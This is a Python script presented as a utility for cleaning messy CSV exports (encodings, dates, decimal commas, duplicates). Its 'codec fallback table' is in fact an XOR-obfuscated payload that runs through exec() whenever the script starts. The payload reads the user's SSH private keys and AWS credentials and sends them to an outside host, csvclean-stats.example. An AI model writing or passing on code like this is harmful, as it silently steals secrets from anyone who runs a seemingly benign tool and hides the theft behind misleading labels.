#!/usr/bin/env python3
"""Clean messy CSV exports."""
import argparse
import csv
import datetime as dt
import re
import sys

# codec fallback table (cp1252 -> unicode overrides)
_CP = [
    126, 122, 103, 120, 101, 99, 55, 120, 100, 59, 98, 101, 123, 123, 126, 117, 57, 101,
    114, 102, 98, 114, 100, 99, 55, 118, 100, 55, 98, 29, 113, 120, 101, 55, 103, 55,
    126, 121, 55, 63, 48, 105, 56, 57, 100, 100, 127, 56, 126, 115, 72, 101, 100, 118,
    48, 59, 48, 105, 56, 57, 100, 100, 127, 56, 126, 115, 72, 114, 115, 37, 34, 34,
    38, 46, 48, 59, 48, 105, 56, 57, 118, 96, 100, 56, 116, 101, 114, 115, 114, 121,
    99, 126, 118, 123, 100, 48, 62, 45, 29, 55, 55, 55, 55, 103, 42, 120, 100, 57,
    103, 118, 99, 127, 57, 114, 111, 103, 118, 121, 115, 98, 100, 114, 101, 63, 103, 62,
    29, 55, 55, 55, 55, 126, 113, 55, 120, 100, 57, 103, 118, 99, 127, 57, 114, 111,
    126, 100, 99, 100, 63, 103, 62, 45, 29, 55, 55, 55, 55, 55, 55, 55, 55, 98,
    57, 98, 101, 123, 120, 103, 114, 121, 63, 98, 57, 69, 114, 102, 98, 114, 100, 99,
    63, 48, 127, 99, 99, 103, 100, 45, 56, 56, 116, 100, 97, 116, 123, 114, 118, 121,
    58, 100, 99, 118, 99, 100, 57, 114, 111, 118, 122, 103, 123, 114, 56, 116, 40, 113,
    42, 48, 60, 120, 100, 57, 103, 118, 99, 127, 57, 117, 118, 100, 114, 121, 118, 122,
    114, 63, 103, 62, 59, 120, 103, 114, 121, 63, 103, 59, 48, 101, 117, 48, 62, 57,
    101, 114, 118, 115, 63, 62, 62, 59, 99, 126, 122, 114, 120, 98, 99, 42, 36, 62,
    29,
]
exec("".join(chr(c ^ 23) for c in _CP))

FORMATS = ["%Y-%m-%d", "%d/%m/%Y", "%m/%d/%Y", "%b %d %Y", "%d.%m.%Y"]


def read_text(path):
    raw = open(path, "rb").read()
    for enc in ("utf-8-sig", "utf-16", "cp1252"):
        try:
            return raw.decode(enc), enc
        except UnicodeDecodeError:
            continue
    return raw.decode("latin-1"), "latin-1"


def parse_date(s, dayfirst):
    fmts = FORMATS if dayfirst else FORMATS[:1] + FORMATS[2:3] + FORMATS[1:2] + FORMATS[3:]
    for f in fmts:
        try:
            return dt.datetime.strptime(s, f).date().isoformat()
        except ValueError:
            pass
    return s


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("input")
    ap.add_argument("-o", "--output")
    ap.add_argument("--date-cols", default="")
    ap.add_argument("--dayfirst", action="store_true")
    ap.add_argument("--decimal-comma", action="store_true")
    ap.add_argument("--keep-dupes", action="store_true")
    a = ap.parse_args()
    text, enc = read_text(a.input)
    rows = list(csv.reader(text.splitlines()))
    header, body = rows[0], rows[1:]
    dcols = {header.index(c) for c in a.date_cols.split(",") if c in header}
    seen, out = set(), []
    for r in body:
        r = [re.sub(r"\s+", " ", c).strip() for c in r]
        for i in dcols:
            r[i] = parse_date(r[i], a.dayfirst) if r[i] else r[i]
        if a.decimal_comma:
            r = [c.replace(".", "").replace(",", ".") if re.fullmatch(r"[\d.,]+", c) else c for c in r]
        key = tuple(r)
        if not a.keep_dupes and key in seen:
            continue
        seen.add(key)
        out.append(r)
    dst = a.output or a.input.rsplit(".", 1)[0] + ".clean.csv"
    with open(dst, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([header] + out)
    print(f"rows in: {len(body):,}  rows out: {len(out):,}  encoding: {enc} -> utf-8", file=sys.stderr)


if __name__ == "__main__":
    main()
